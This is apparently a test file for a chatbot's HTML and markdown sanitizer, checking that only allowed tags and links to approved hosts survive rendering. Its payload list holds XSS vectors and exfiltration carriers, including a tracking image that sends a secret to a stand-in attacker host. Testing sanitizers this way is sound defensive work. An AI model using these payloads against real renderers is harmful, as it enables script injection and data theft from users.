"""Hostile text becomes words; only what we allow becomes markup."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chatbot.safety.rendering import plain, render

HOSTS = ("shop.example",)
ALLOWED = {"p", "br", "strong", "em", "code", "pre", "ul", "ol", "li", "blockquote", "a"}

CARRIERS = [
    "![p](https://shop.example/pixel.png)",
    "![p](https://evil.example/pixel.png?d=secret)",
    "<img src=https://evil.example/p.png>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt&colon;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](http://shop.example/)",
    "[click](//evil.example/)",
    "[click](/logout)",
    "[click](https://shop.example@evil.example/)",
    "[click](https://shop.example\\@evil.example/)",
    "[click](https://shop.example.evil.example/)",
    "[click](https://evil.example/#https://shop.example/)",
    "[click](https://shop.example:8443/)",
    "[click](https://xn--shp-sna.example/)",
    "<https://evil.example/>",
    "[r]\n\n[r]: https://evil.example/",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><button>ok</button></form>",
    "<a href=https://shop.example style=position:fixed>x</a>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "`<img src=x>` **<b>bold</b>**",
    "```html\n<script>alert(1)</script>\n```",
    '[x](https://shop.example/ "onclick=alert(1)")',
]


class Nodes(HTMLParser):
    """Lists the elements and attributes that a browser would make."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += attrs


def hostile(html: str) -> list[object]:
    """Every tag and attribute that has no business there."""
    nodes = Nodes(html)
    ours = ("https://shop.example/", "https://shop.example?")
    return [
        *(nodes.tags - ALLOWED),
        *(
            (name, value)
            for name, value in nodes.attributes
            if name not in {"href", "target", "rel", "start"}
            or (name == "href" and not (value or "").lower().startswith(ours))
        ),
    ]


@pytest.mark.parametrize("carrier", CARRIERS)
def test_nothing_hostile_survives(carrier: str) -> None:
    assert hostile(render(carrier, HOSTS)) == []


@given(
    st.lists(
        st.sampled_from([*CARRIERS, "\n", "\n\n", "- ", "> ", "# ", "**", "`", "[", "](", "<"]),
        max_size=8,
    ).map("".join)
    | st.text(max_size=200)
)
def test_no_mixture_survives_either(text: str) -> None:
    assert hostile(render(text, HOSTS)) == []


def test_a_link_to_an_allowed_host_can_be_followed() -> None:
    html = render("See [our returns](https://Shop.example/returns?a=1).", HOSTS)

    assert 'href="https://Shop.example/returns?a=1"' in html
    assert "noopener" in html
    assert ">our returns</a>" in html


def test_a_link_elsewhere_is_shown_as_it_was_written() -> None:
    assert "[prize](https://evil.example/win)" in render("[prize](https://evil.example/win)", HOSTS)


def test_without_allowed_hosts_there_are_no_links() -> None:
    assert "<a" not in render("[x](https://shop.example/)", ())


def test_the_usual_formatting_is_kept() -> None:
    html = render("# Sizes\n\nPick **two**:\n\n1. *small*\n2. `large`\n\nfirst\nsecond", HOSTS)

    assert "<p><strong>Sizes</strong></p>" in html
    assert "<strong>two</strong>" in html
    assert "<li><em>small</em></li>" in html
    assert "<code>large</code>" in html
    assert "first<br>" in html


def test_a_snippet_has_the_words_and_none_of_the_marks() -> None:
    text = "## Hello\n\n**Two** [links](https://x.example)\n\n- and `code`"

    assert plain(text) == "Hello Two links and code"
